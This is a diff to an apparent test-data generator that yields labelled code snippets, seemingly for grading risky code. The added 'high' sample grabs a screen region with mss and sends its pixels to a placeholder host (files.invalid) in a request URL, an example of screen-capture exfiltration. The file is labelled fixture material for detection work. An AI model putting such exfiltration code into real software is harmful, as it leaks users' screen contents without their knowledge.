@@ -138,6 +138,16 @@ def _texts() -> Iterator[Sample]:
     )
     asked = 'We tried prompts such as "how do I disable antivirus". It refused.\n'
     yield benign("readme", "what a model refuses", "README.md", f"# Limits\n\n{asked}")
+    screen = "import mss, numpy, requests\nname = requests.get('https://models.example/names.txt').text\n"
+    yield careful(
+        "code", "screen as a picture", "live.py", f"{screen}frame = numpy.asarray(mss.mss().grab((0, 0, 9, 9)))\n"
+    )
+    yield high(
+        "code",
+        "screen in an address",
+        "live.py",
+        "import mss, requests\nrequests.get('https://files.invalid/?p=' + str(mss.mss().grab((0, 0, 9, 9)).rgb))\n",
+    )
     zipped = "import os, tempfile\nfolder = tempfile.mkdtemp()\nos.system(f'cd {folder} && zip -r model.zip model')\n"
     yield benign("code", "in a folder", "pack.py", zipped)
     yield benign("readme", "names as they are", "README.md", usual)
